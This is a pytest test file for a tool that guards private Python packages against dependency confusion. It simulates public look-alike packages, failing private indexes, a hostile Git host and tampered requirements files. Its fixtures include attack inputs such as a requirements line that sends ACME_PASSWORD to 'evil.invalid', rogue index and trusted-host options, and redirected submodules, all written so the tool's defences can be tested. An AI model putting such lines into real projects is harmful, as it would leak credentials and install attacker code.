"""Strangers publish, and change requests alter: what plain pip and uv take then, and what the command installs."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import sysconfig
import tempfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
import uv
from wheels import archive, sdist, wheel
from world import LOGINS, World, new_world, source

from demo.git_host import GitHost
from demo.http_host import Faults
from demo.samples import commit

# The oldest pip that somebody may have, and the newest.
PIPS = ("24.0", "newest")
PLATFORM = f"cp{sys.version_info.major}{sys.version_info.minor}-none-" + sysconfig.get_platform().replace(
    "-", "_"
).replace(".", "_")
WHEEL = "acme_units-2.1.0-py3-none-any.whl"

Pips = dict[str, Path]


@pytest.fixture(scope="module")
def pips(tmp_path_factory: pytest.TempPathFactory) -> Pips:
    """The Python of one virtual environment for each pip."""
    found = {}
    for version in PIPS:
        folder = tmp_path_factory.mktemp("pip") / version
        make = [uv.find_uv_bin(), "venv", "--quiet", "--seed", "--python", sys.executable, str(folder)]
        # Not from this project's folder: its own constraints name one pip.
        subprocess.run(make, cwd=folder.parent, check=True)
        python = folder / ("Scripts/python.exe" if os.name == "nt" else "bin/python")
        wanted = "pip" if version == "newest" else f"pip=={version}"
        get = [uv.find_uv_bin(), "pip", "install", "--quiet", "--upgrade", "--compile-bytecode"]
        get += ["--python", str(python), wanted]
        subprocess.run(get, cwd=folder.parent, check=True)
        found[version] = python
    return found


@pytest.fixture(scope="module")
def shared(isolated: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    with new_world(tmp_path_factory.mktemp("confusion")) as made:
        yield made


@pytest.fixture
def here(shared: World) -> World:
    """The shared world as it was, whose app wants acme-units==2.1.0."""
    shared.reset()
    return shared.want(shared.index(), shared.from_index("acme-units==2.1.0"))


def taken(world: World, *command: str | Path, package: str = "acme-units") -> str:
    """Where an installer really takes a package from: "private", "public", or "nothing"."""
    with tempfile.TemporaryDirectory(dir=world.scratch) as folder:
        done = world.run(*command, "--quiet", "--target", folder, "-r", "requirements.txt")
        module = Path(folder, package.replace("-", "_") + ".py")
        assert module.exists() == (done.returncode == 0), done.stderr
        return module.read_text().split("'")[1] if module.exists() else "nothing"


def taken_by_pip(world: World, python: Path, package: str = "acme-units") -> str:
    return taken(world, python, "-m", "pip", "install", package=package)


def taken_by_uv(world: World, *options: str) -> str:
    # uv has no other PyPI but the one that it is told; the option would beat the app's own `--index-url`.
    public = ("--default-index", world.public.simple_url)
    only = "--index-url" in world.requirements.read_text()
    command = (uv.find_uv_bin(), "pip", "install", "--python", sys.executable)
    return taken(world, *command, *(() if only else public), *options)


def warned(world: World, package: str = "acme-units") -> bool:
    """Whether `check` warns of a package, and goes on."""
    done = world.command("check")
    assert done.returncode == 0, done.stderr
    return f"warning: {package}: a public index offers" in done.stderr


def on_viktor(world: World) -> str:
    """What `check` says when the same app is one of VIKTOR's, which runs plain pip itself; nothing where it is ok."""
    toml = world.app / "private-packages.toml"
    text = toml.read_text()
    toml.write_text(text.replace('platform = "python"', 'platform = "viktor"'))
    assert world.command("sync").returncode == 0
    done = world.command("check")
    toml.write_text(text)
    assert world.command("sync").returncode == 0
    return done.stderr if done.returncode else ""


def publish(world: World, name: str, version: str, **more: str) -> None:
    """Let a stranger publish a wheel."""
    wheel(world.public.folder, name, version, "public", **more)


# --- what a stranger publishes ---

# For each: what plain pip takes, and whether plain pip might take the stranger's.
ATTACKS: dict[str, tuple[Callable[[World], object], str, bool]] = {
    "nothing": (lambda world: None, "private", False),
    "the same version with a build tag": (
        lambda world: publish(world, "acme-units", "2.1.0", build="9"),
        "public",
        True,
    ),
    "a wheel for this platform": (
        lambda world: publish(world, "acme-units", "2.1.0", tag=PLATFORM),
        "public",
        True,
    ),
    "a local version": (lambda world: publish(world, "acme-units", "2.1.0+zzz"), "public", True),
    "a higher version": (lambda world: publish(world, "acme-units", "99.0.0"), "private", False),
    "the very same file name": (lambda world: publish(world, "acme-units", "2.1.0"), "private", True),
}


@pytest.mark.slow
@pytest.mark.parametrize("attack", ATTACKS)
def test_install_takes_the_private_file_and_check_tells_when_plain_pip_might_not(
    here: World, pips: Pips, attack: str
):
    """An exact pin, right credentials. On VIKTOR, which runs plain pip, what is a warning elsewhere stops."""
    attacked, by_pip, might = ATTACKS[attack]
    attacked(here)
    assert {taken_by_pip(here, python) for python in pips.values()} == {by_pip}
    assert warned(here) == might
    here.installs()
    assert here.origin("acme-units") == "private"
    assert ("STOP acme-units: a public index offers" in on_viktor(here)) == might


@pytest.mark.slow
def test_a_stranger_s_file_that_is_installed_already_is_replaced(here: World, pips: Pips):
    """The installers see the version that is wanted, and leave it."""
    here.put(wheel(here.scratch / "stranger", "acme-units", "2.1.0", "public"))
    for command in ((uv.find_uv_bin(), "pip"), (pips["newest"], "-m", "pip", "--python", here.python)):
        options = ("--python", here.python) if command[0] == uv.find_uv_bin() else ()
        assert here.run(*command, "install", *options, "-r", "requirements.txt").returncode == 0
        assert here.origin("acme-units") == "public"
    here.installs()
    assert here.origin("acme-units") == "private"


SETTINGS = {
    "UV_INDEX_STRATEGY": "unsafe-best-match",
    "UV_PRERELEASE": "allow",
    "UV_OVERRIDE": "overrides.txt",
    "UV_INDEX": "PUBLIC",
    "UV_FIND_LINKS": "LINKS",
    "PIP_EXTRA_INDEX_URL": "PUBLIC",
}


@pytest.mark.slow
def test_what_the_machine_is_set_to_does_not_overrule_where_packages_come_from(here: World):
    publish(here, "acme-units", "2.1.0+zzz")
    (here.app / "overrides.txt").write_text("acme-units==99.0.0\n")
    places = {"PUBLIC": here.public.simple_url, "LINKS": str(here.public.folder)}
    settings = {name: places.get(value, value) for name, value in SETTINGS.items()}
    (here.app / "uv.toml").write_text('[pip]\nindex-strategy = "unsafe-best-match"\n')
    assert taken_by_uv(here, "--index-strategy", settings["UV_INDEX_STRATEGY"]) == "public"
    assert here.command("install", **settings).returncode == 0
    assert here.origin("acme-units") == "private"


# --- the private index fails ---

WRONG = {
    "a wrong login": (
        {"ACME_USER": "builder", "ACME_PASSWORD": "wrong"},
        "refuses the login from ACME_USER and ACME_PASSWORD (403); set a valid one with"
        " `python -m private_packages login --again ACME_USER --again ACME_PASSWORD`",
    ),
    "an empty login": ({"ACME_USER": "builder", "ACME_PASSWORD": ""}, "ACME_PASSWORD has no value"),
    "no login": ({"ACME_USER": "builder"}, "ACME_PASSWORD has no value"),
}


@pytest.mark.slow
@pytest.mark.parametrize("login", WRONG)
def test_without_a_valid_login_plain_pip_takes_the_stranger_s_package_and_the_command_stops(
    here: World, pips: Pips, login: str
):
    """Although the requirement is an exact pin."""
    publish(here, "acme-units", "2.1.0")
    variables, words = WRONG[login]
    outside = here.outside(**variables)
    assert {taken_by_pip(outside, python) for python in pips.values()} == {"public"}
    here.private.clear()
    for command in ("check", "install"):
        said = outside.stops(command)
        assert words in said
        assert "python -m private_packages login" in said
    assert (login == "a wrong login") == bool(here.private.requests)


FAULTS: dict[str, tuple[Faults | None, str]] = {
    "401, as for an expired token": (Faults(status=401), "refuses the login from ACME_USER"),
    "403": (Faults(status=403), "refuses the login from ACME_USER"),
    "404": (Faults(status=404), "does not have it (404)"),
    "500": (Faults(status=500), "answers with 500"),
    "a silent server": (Faults(hang=True), "does not answer (timed out)"),
    "a cut connection": (Faults(cut_after=20), "broke in the middle"),
    "a stall in the answer": (Faults(stall_after=20), "broke in the middle"),
    "a page cut short": (Faults(truncate_after=20), "does not offer 2.1.0 any more"),
    "a redirect to another host": (Faults(redirect_to="public"), "sends the question on to"),
    "no server at all": (None, "does not answer"),
}
# Newer releases of pip stop by themselves here.
PIP_MAY_GIVE_UP = {"a cut connection", "a stall in the answer"}


@pytest.mark.slow
@pytest.mark.parametrize("fault", FAULTS)
def test_when_the_private_index_fails_plain_pip_takes_the_stranger_s_package_and_the_command_stops(
    here: World, pips: Pips, fault: str
):
    publish(here, "acme-units", "2.1.0")
    faults, words = FAULTS[fault]
    if faults is None:
        here.private.stop()
    else:
        here.private.faults = Faults(redirect_to=here.public.url) if faults.redirect_to else faults
    for version, python in pips.items():
        by_pip = taken_by_pip(here, python)
        assert by_pip == "public" or (version == "newest" and fault in PIP_MAY_GIVE_UP)
    here.public.clear()
    for command in ("check", "install"):
        said = here.stops(command)
        assert "STOP acme-units: " in said
        assert words in said
    assert not [one for one in here.public.requests if one.user], "the credentials went to another host"


@pytest.mark.slow
def test_uv_takes_the_first_index_that_has_the_name_and_falls_through_on_404_only(here: World):
    """What the command builds on, and why it asks the private index itself before."""
    publish(here, "acme-units", "2.1.0", build="9")
    assert taken_by_uv(here) == "private"
    for status, by_uv in ((401, "nothing"), (403, "nothing"), (404, "public")):
        here.private.faults = Faults(status=status)
        assert (status, taken_by_uv(here)) == (status, by_uv)
    here.private.faults = Faults()
    publish(here, "acme-units", "2.1.0+zzz")
    assert taken_by_uv(here) == "private"
    assert taken_by_uv(here, "--index-strategy", "unsafe-best-match") == "public"


@pytest.mark.slow
def test_with_the_scope_only_nothing_public_is_asked_whatever_is_there(here: World, pips: Pips):
    publish(here, "acme-units", "99.0.0")
    here.want(here.index("only"), here.from_index("acme-units>=2"))
    assert {taken_by_pip(here, python) for python in pips.values()} == {"private"}
    here.public.clear()
    here.installs()
    assert here.origin("acme-units") == "private"
    expired = here.outside(**WRONG["a wrong login"][0])
    assert taken_by_pip(expired, pips["newest"]) == "nothing"
    assert "refuses the login" in expired.stops("install")
    here.private.faults = Faults(status=404)
    assert "does not have it (404)" in here.stops("install")
    assert here.public.requests == []


def test_what_a_merging_index_takes_in_later_stays_out(here: World):
    """Scope `only` with an index that merges PyPI: the lock knows the files that were there first."""
    here.want(here.index("only"), here.from_index("acme-units==2.1.0"))
    wheel(here.private.folder, "acme-units", "2.1.0", "public", build="9")
    assert taken_by_uv(here) == "public"
    assert "acme_units-2.1.0-9-py3-none-any.whl, which is not the file that the lock knows" in here.installs()
    assert here.origin("acme-units") == "private"


# --- source distributions ---


@pytest.mark.slow
def test_a_stranger_s_source_distribution_is_never_run(here: World, pips: Pips, tmp_path: Path):
    """pip runs its code to learn its name, even with `--dry-run`."""
    witness = tmp_path / "executed"
    sdist(here.public.folder, "acme-units", "2.1.0+zzz", witness)
    assert warned(here)
    here.installs()
    assert here.origin("acme-units") == "private"
    here.run(uv.find_uv_bin(), "pip", "uninstall", "--python", here.python, "acme-units")
    here.private.faults = Faults(status=404)
    here.stops("install")
    assert not witness.exists()
    here.run(pips["newest"], "-m", "pip", "install", "--dry-run", "--no-deps", "-r", "requirements.txt")
    assert witness.exists(), "pip itself does not run it, so the test proves nothing"


def test_a_version_that_only_the_stranger_has_is_not_taken(here: World, tmp_path: Path):
    sdist(here.public.folder, "acme-units", "2.2.0", tmp_path / "executed")
    publish(here, "acme-units", "2.2.0", build="9")
    toml = here.app / "private-packages.toml"
    toml.write_text(toml.read_text().replace("==2.1.0", "==2.2.0"))
    assert "acme-units: the private index offers no file of version 2.2.0; it has 2.1.0, 2.0.0" in here.stops(
        "install"
    )
    assert not (tmp_path / "executed").exists()


def test_a_private_package_without_wheels_is_built_only_when_that_is_allowed_with_a_reason(here: World):
    (here.private.folder / WHEEL).unlink()
    archive(here.private.folder, "acme-units", "2.1.0", source("acme-units", "2.1.0", "private"))
    here.want(here.index(), here.from_index("acme-units==2.1.0"))
    (here.app / "private-packages.lock").unlink()
    said = here.stops("install")
    assert "acme-units has no wheel, and building it from source runs its code." in said
    allow = here.app / "private-packages.allow.toml"
    allow.write_text('[[build]]\nname = "Acme_Units"\n')
    assert "`Acme_Units` has no reason" in here.stops("install")
    allow.write_text('[[build]]\nname = "Acme_Units"\nreason = "Ours, and there is no wheel yet."\n')
    here.installs()
    assert here.origin("acme-units") == "private"


@pytest.mark.parametrize("kind", ["a repository", "a source distribution"])
def test_what_is_not_among_the_answers_is_built_only_when_that_is_allowed(
    here: World, kind: str, tmp_path: Path
):
    witness = tmp_path / "executed"
    backend = f"open({str(witness)!r}, 'w').close()\n" + source("acme-tool", "1.0", "private")["backend.py"]
    files = {**source("acme-tool", "1.0", "private"), "backend.py": backend}
    if kind == "a repository":
        here.git.tokens["acme-tool"] = None
        repository(here, "acme-tool", files)
        here.write(f"acme-tool @ git+{here.git.url_of('acme-tool')}@v1")
    else:
        archive(here.public.folder, "acme-tool", "1.0", files)
        here.write("acme-tool==1.0")
    for command in ("check", "install"):
        said = here.stops(command)
        assert "acme-tool" in said
        assert "runs its code" in said
        assert "[[build]]" in said
    assert not witness.exists()
    (here.app / "private-packages.allow.toml").write_text(
        '[[build]]\nname = "acme-tool"\nreason = "Read it."\n'
    )
    here.installs()
    assert witness.exists()
    assert here.origin("acme-tool") == "private"


def repository(world: World, name: str, files: dict[str, str]) -> Path:
    """A repository of other files than usual."""
    world.repository(name)
    path = world.git.path_of(name)
    commit(path, files, tag="v1")
    return path


# --- what others need ---


@pytest.mark.slow
def test_what_a_private_package_needs_comes_from_the_private_index_and_is_locked(here: World, pips: Pips):
    """The private acme-units 2.1.0 needs acme-core, which pip would take at 99.0.0 from the stranger."""
    wheel(here.private.folder, "acme-core", "1.0", "private")
    publish(here, "acme-core", "99.0.0")
    wheel(here.private.folder, "acme-units", "2.1.0", "private", needs="acme-core>=1 ; python_version > '3'")
    (here.app / "private-packages.lock").unlink()
    here.want(here.index(), here.from_index("acme-units==2.1.0"))
    assert {taken_by_pip(here, python, "acme-core") for python in pips.values()} == {"public"}
    assert warned(here, "acme-core")
    here.installs()
    assert here.origin("acme-core") == "private"
    assert 'name = "acme-core"\nstrategy = "index"\nversion = "1.0"\n' in here.lock
    here.installs("--locked")
    assert "STOP acme-core: a public index offers 99.0.0" in on_viktor(here)


@pytest.mark.parametrize(
    ("fault", "words"),
    [
        (Faults(status=401), "The index {private} refuses the login"),
        (Faults(status=403), "The index {private} refuses the login"),
        (Faults(status=500), "{private}acme-core/ does not answer as it should"),
        (Faults(hang=True), "{private}acme-core/ does not answer as it should"),
        (Faults(status=404), "STOP acme-core: 99.0.0 would come from"),
    ],
    ids=lambda one: str(one.status or "silence") if isinstance(one, Faults) else "",
)
def test_when_the_index_fails_for_what_a_private_package_needs_everything_stops(
    here: World, fault: Faults, words: str
):
    """The index answers for acme-units as ever."""
    wheel(here.private.folder, "acme-core", "1.0", "private")
    wheel(here.private.folder, "acme-units", "2.1.0", "private", needs="acme-core")
    (here.app / "private-packages.lock").unlink()
    here.want(here.index(), here.from_index("acme-units==2.1.0"))
    here.installs()
    publish(here, "acme-core", "99.0.0")
    here.private.faults_of = {"acme-core": fault}
    assert words.format(private=here.private.simple_url) in here.stops("install")
    assert not [one for one in here.public.requests if one.user]


def test_so_does_what_an_extra_needs(here: World):
    wheel(here.private.folder, "acme-si", "1.0", "private")
    publish(here, "acme-si", "99.0.0")
    needs = "acme-si ; extra == 'si'\nProvides-Extra: si"
    wheel(here.private.folder, "acme-units", "2.1.0", "private", needs=needs)
    (here.app / "private-packages.lock").unlink()
    here.want(here.index(), here.from_index("acme-units[si]==2.1.0"))
    here.installs()
    assert here.origin("acme-si") == "private"


@pytest.mark.slow
@pytest.mark.parametrize("strategy", ["submodule", "git"])
def test_a_package_of_the_answers_comes_from_its_repository_also_when_another_needs_it(
    here: World, pips: Pips, strategy: str
):
    """acme-units of the index needs acme-beams, which is a repository's; a stranger has a newer one."""
    here.repository("acme-beams")
    publish(here, "acme-beams", "99.0.0")
    wheel(here.private.folder, "acme-units", "2.1.0", "private", needs="acme-beams")
    (here.app / "private-packages.lock").unlink()
    here.want(
        here.index(), here.from_index("acme-units==2.1.0"), here.from_git("acme-beams", strategy=strategy)
    )
    here.installs()
    assert here.origin("acme-beams") == "private"
    if strategy == "submodule":
        block = here.requirements.read_text()
        here.requirements.write_text(block.replace("-e ./app/submodules/acme-beams\n", ""))
        assert taken_by_pip(here, pips["newest"], "acme-beams") == "public"
        here.requirements.write_text(block)
        assert "STOP acme-beams: another package needs it, and VIKTOR would look for it on PyPI" in on_viktor(
            here
        )


def test_a_submodule_that_nobody_can_install_is_not_looked_for_elsewhere(here: World, tmp_path: Path):
    """It has neither pyproject.toml nor setup.py, so the name is free, and another package needs it."""
    path = here.repository("acme-beams")
    commit(
        path, {"pyproject.toml": None, "backend.py": None, "acme_beams.py": "ORIGIN = 'private'\n"}, tag="v1"
    )
    wheel(here.private.folder, "acme-units", "2.1.0", "private", needs="acme-beams")
    (here.app / "private-packages.lock").unlink()
    here.want(here.index(), here.from_index("acme-units==2.1.0"), here.submodule("acme-beams"))
    sdist(here.public.folder, "acme-beams", "99.0.0", tmp_path / "executed")
    assert "acme-beams has no wheel" in here.stops("install")
    publish(here, "acme-beams", "99.0.0")
    said = here.stops("install")
    assert "STOP acme-beams: 99.0.0 would come from" in said
    assert "Tell your security team" in said
    assert not (tmp_path / "executed").exists()


def test_a_name_with_a_private_prefix_never_comes_from_a_public_index(here: World, pips: Pips):
    """Whoever needs it, and although the private index does not have it."""
    publish(here, "acme-ghost", "1.0")
    publish(here, "harmless", "2.0", needs="acme_ghost")
    here.write("harmless==2.0")
    here.installs()
    assert here.origin("acme-ghost") == "public"
    here.want(here.index(), here.from_index("acme-units==2.1.0"), prefixes=["acme-"])
    assert "STOP acme-ghost: 1.0 would come from" in here.stops("install")


# --- the user's own lines ---

Change = Callable[[World], object]


def replaced(old: str, new: str) -> Change:
    """Replace a text in requirements.txt."""
    return lambda world: world.requirements.write_text(world.requirements.read_text().replace(old, new))


def written(*lines: str) -> Change:
    """Write lines of one's own."""
    return lambda world: world.write(*(line.replace("PUBLIC", world.public.simple_url) for line in lines))


def included(text: str) -> Change:
    """Write a file, and a line that includes it."""

    def change(world: World) -> None:
        (world.app / "other.txt").write_text(text.replace("PUBLIC", world.public.simple_url))
        world.write("-r other.txt")

    return change


# What a change request does to requirements.txt, so that plain pip takes a stranger's 99.0.0, and what is said.
CHANGES: dict[str, tuple[Change, str]] = {
    "another version": (replaced("==2.1.0", "==99.0.0"), "requirements.txt is not what sync writes"),
    "a loosened pin": (replaced("==2.1.0", ">=2"), "requirements.txt is not what sync writes"),
    "a line less, and one's own": (
        lambda world: (replaced("acme-units==2.1.0\n", "")(world), world.write("acme-units")),
        "requirements.txt is not what sync writes",
    ),
    "an address": (
        lambda world: (
            replaced("acme-units==2.1.0\n", "")(world),
            world.write(f"acme-units @ {world.public.url}/packages/acme_units-99.0.0-py3-none-any.whl"),
        ),
        "requirements.txt is not what sync writes",
    ),
    "another index": (
        lambda world: (
            replaced("acme-units==2.1.0\n", "")(world),
            included("--index-url PUBLIC\nacme-units\n")(world),
        ),
        "requirements.txt is not what sync writes",
    ),
}
# The block stays as it is; what is said of the line.
LINES: dict[str, tuple[Change, str]] = {
    "a second line": (
        written("Acme_Units >= 2.1"),
        "requirements.txt:5: `Acme_Units >= 2.1` is not the line of",
    ),
    "a comment with an address": (
        written("acme-units>=2  # see https://x.y"),
        "requirements.txt:5: `acme-units>=2`",
    ),
    "an indented line": (written("   acme.units"), "requirements.txt:5: `acme.units` is not the line of"),
    "a joined line": (
        written("acme-\\", "units>=2"),
        "requirements.txt:5: `acme-units>=2` is not the line of",
    ),
    "a line behind a form feed": (written("# x\x0cacme-units>=2"), "`acme-units>=2` is not the line of"),
    "an included file": (included("\nacme-units>=2\n"), "other.txt:2: `acme-units>=2` is not the line of"),
    "an option in an included file": (included("--pre\n"), "other.txt:1: `--pre` is an option"),
    "an address without a name": (
        written("PUBLICacme_units-2.1.0-py3-none-any.whl"),
        "is no plain requirement",
    ),
    "a path": (written("./acme_units-2.1.0-py3-none-any.whl"), "is no plain requirement"),
    "a file": (written("acme_units-2.1.0-py3-none-any.whl"), "is no plain requirement"),
    "a folder to be built": (written("-e ./other"), "installs ./other, which is no submodule of the answers"),
    "a variable in an address": (
        written("x @ https://evil.invalid/${ACME_PASSWORD}/x.whl"),
        "names an environment",
    ),
    "settings of a build": (written("harmless==1.0 --config-settings=a=b"), "is no plain requirement"),
    "another encoding": (replaced("# >>>", "# coding: utf-7\n# >>>"), "requirements.txt is no UTF-8"),
    **{
        option: (written(option), f"requirements.txt:5: `{option.split('PUBLIC')[0]}")
        for option in (
            "--index-url PUBLIC",
            "-i PUBLIC",
            "--extra-index-url PUBLIC",
            "--find-links PUBLIC",
            "-f PUBLIC",
            "--no-binary acme-units",
            "--no-index",
            "--pre",
            "--trusted-host evil.invalid",
            "-c constraints.txt",
        )
    },
}


@pytest.mark.slow
@pytest.mark.parametrize("change", CHANGES)
def test_a_changed_block_stops_check_and_locked_and_install_writes_it_anew(
    here: World, pips: Pips, change: str
):
    publish(here, "acme-units", "99.0.0")
    act, words = CHANGES[change]
    act(here)
    assert taken_by_pip(here, pips["newest"]) == "public"
    assert words in here.stops("check")
    assert words in here.stops("install", "--locked")
    done = here.command("install")
    assert here.origin("acme-units") == ("private" if done.returncode == 0 else "nothing")
    assert "acme-units==2.1.0\n" in here.requirements.read_text()


@pytest.mark.parametrize("line", LINES)
def test_a_line_that_nobody_can_vouch_for_stops_everything(here: World, line: str):
    act, words = LINES[line]
    act(here)
    here.public.clear()
    for command in ("check", "install"):
        said = here.stops(command)
        assert words in said
        assert "Remove it" in said or "save it as UTF-8" in said
    assert here.public.requests == []


def test_an_option_may_be_allowed_with_a_reason_and_then_it_counts(here: World):
    links = here.scratch / "links"
    wheel(links, "linked", "1.0", "private")
    option = f"--find-links {links.as_posix()}"
    here.write(option, "linked==1.0")
    here.stops("install")
    allow = f'[[options]]\nline = "{option}"\nreason = "Our own disk."\n'
    (here.app / "private-packages.allow.toml").write_text(allow)
    here.installs()
    assert here.origin("linked") == "private"


@pytest.mark.slow
def test_a_line_for_what_the_private_index_has_is_served_by_it_and_locked(here: World, pips: Pips):
    """acme-core is no answer; somebody wrote it down all the same."""
    wheel(here.private.folder, "acme-core", "1.0", "private")
    publish(here, "acme-core", "99.0.0")
    here.write("acme-core  # of the colleagues")
    assert taken_by_pip(here, pips["newest"], "acme-core") == "public"
    assert warned(here, "acme-core")
    here.installs()
    assert here.origin("acme-core") == "private"
    replaced("acme-core ", f"acme-core @ {here.public.url}/packages/acme_core-99.0.0-py3-none-any.whl ")(here)
    (here.app / "private-packages.lock").unlink()
    here.command("sync")
    assert "STOP acme-core: it would come from" in here.stops("install")


def test_the_hashes_of_a_public_line_count(here: World):
    here.write(f"harmless==1.0 --hash=sha256:{'0' * 64}")
    assert "What is offered as harmless==1.0 is not the file" in here.stops("install")


# --- Git ---


@pytest.fixture
def evil(tmp_path: Path) -> Iterator[GitHost]:
    """A stranger's Git host."""
    (tmp_path / "evil" / "acme").mkdir(parents=True)
    with GitHost(tmp_path / "evil", "theirs") as host:
        yield host


@pytest.mark.slow
def test_a_git_line_with_another_host_stops_before_the_token_goes_there(
    here: World, pips: Pips, evil: GitHost
):
    here.repository("acme-loads")
    here.want(here.from_git("acme-loads"))
    replaced(here.git.url.rpartition("/")[2], evil.url.rpartition("/")[2])(here)
    here.run(pips["newest"], "-m", "pip", "install", "--dry-run", "-r", "requirements.txt")
    assert any(one.user == "x-access-token" for one in evil.requests)
    evil.clear()
    assert "requirements.txt is not what sync writes" in here.stops("check")
    here.stops("install", "--locked")
    replaced("# <<<", f"# <<<\nacme-loads @ git+{evil.url_of('acme-loads')}@v1\n#")(here)
    here.stops("install")
    assert evil.requests == []


@pytest.mark.parametrize("locked", [(), ("--locked",)], ids=["install", "install --locked"])
@pytest.mark.parametrize("altered", ["an address in .gitmodules", "a gitlink"])
def test_an_altered_submodule_stops_in_a_clone_before_anything_is_fetched(
    here: World, evil: GitHost, git, altered: str, locked: tuple[str, ...]
):
    here.repository("acme-beams")
    later = commit(here.git.path_of("acme-beams"), {"later.py": "\n"}, branch="later")
    here.want(here.submodule("acme-beams"))
    (here.app / ".git" / "info" / "exclude").write_text(".venv/\n")
    git(here.app, "add", "--all")
    if altered == "a gitlink":
        git(here.app, "update-index", "--cacheinfo", f"160000,{later},app/submodules/acme-beams")
        words = f"acme-beams: its pin was moved by hand to {later[:10]}"
    else:
        replace_in(here.app / ".gitmodules", here.git.url, evil.url)
        git(here.app, "add", ".gitmodules")
        words = f"acme-beams: .gitmodules fetches it from {evil.url}"
    git(here.app, "commit", "--quiet", "-m", "a change request")
    shutil.rmtree(here.app / ".git" / "modules")
    shutil.rmtree(here.app / "app" / "submodules" / "acme-beams")
    git(here.app, "submodule", "deinit", "--force", "--all")
    here.git.clear()
    here.run("git", "-c", "credential.helper=", "submodule", "update", "--init", GIT_TERMINAL_PROMPT="0")
    assert evil.requests or here.git.requests, "Git itself fetches nothing, so the test proves nothing"
    evil.clear()
    here.git.clear()
    assert words in here.stops("install", *locked)
    assert evil.requests == []
    assert here.git.requests == []


def replace_in(path: Path, old: str, new: str) -> None:
    path.write_text(path.read_text().replace(old, new))


def test_every_login_that_is_needed_is_named_at_once_and_nothing_is_sent(here: World):
    here.repository("acme-loads")
    here.want(here.index(), here.from_index("acme-units==2.1.0"), here.from_git("acme-loads"))
    here.git.clear()
    here.private.clear()
    assert "ACME_TOKEN, ACME_USER and ACME_PASSWORD have no value" in here.outside().stops("install")
    assert here.git.requests == here.private.requests == []
    assert set(LOGINS) == {"ACME_TOKEN", "ACME_USER", "ACME_PASSWORD"}
